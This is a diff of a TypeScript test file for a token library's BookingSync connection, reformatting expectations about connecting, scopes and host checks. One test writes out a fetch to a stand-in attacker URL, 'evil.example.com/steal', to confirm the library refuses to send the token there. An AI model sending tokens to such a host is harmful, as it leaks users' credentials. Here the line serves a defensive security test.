@@ -21,7 +21,12 @@ describe('BookingSync through the library', () => {
   it('connects with the out-of-band code and calls the API with the token', async () => {
     fixture = await setup('bookingsync')
     const connection = await connectBookingSync(fixture)
-    expect(connection).toMatchObject({ id: 'acme-bs/main', provider: 'bookingsync', state: 'active', hasRefreshToken: true })
+    expect(connection).toMatchObject({
+      id: 'acme-bs/main',
+      provider: 'bookingsync',
+      state: 'active',
+      hasRefreshToken: true,
+    })
     expect(connection.scopes).toEqual(expect.arrayContaining(['public', 'bookings_read', 'rentals_read']))
     const rentals = await fixture.keeper.connection('acme-bs').json<{ rentals: unknown[] }>('/rentals')
     expect(rentals.rentals.length).toBeGreaterThan(0)
@@ -112,7 +117,9 @@ describe('BookingSync through the library', () => {
   it('refuses to send the token to a host that is not BookingSync', async () => {
     fixture = await setup('bookingsync')
     await connectBookingSync(fixture)
-    await expect(fixture.keeper.connection('acme-bs/main').fetch('https://evil.example.com/steal')).rejects.toMatchObject({
+    await expect(
+      fixture.keeper.connection('acme-bs/main').fetch('https://evil.example.com/steal'),
+    ).rejects.toMatchObject({
       code: 'forbidden_host',
     })
   })
@@ -120,6 +127,8 @@ describe('BookingSync through the library', () => {
   it('refuses an unknown scope before sending anyone to the consent page', async () => {
     fixture = await setup('bookingsync')
     await fixture.keeper.apps.add('acme-bs', appFor(fixture.emulator, 'bookingsync'))
-    await expect(fixture.keeper.connect('acme-bs', { scopes: ['everything'] })).rejects.toThrow(/does not know the scope everything/)
+    await expect(fixture.keeper.connect('acme-bs', { scopes: ['everything'] })).rejects.toThrow(
+      /does not know the scope everything/,
+    )
   })
 })
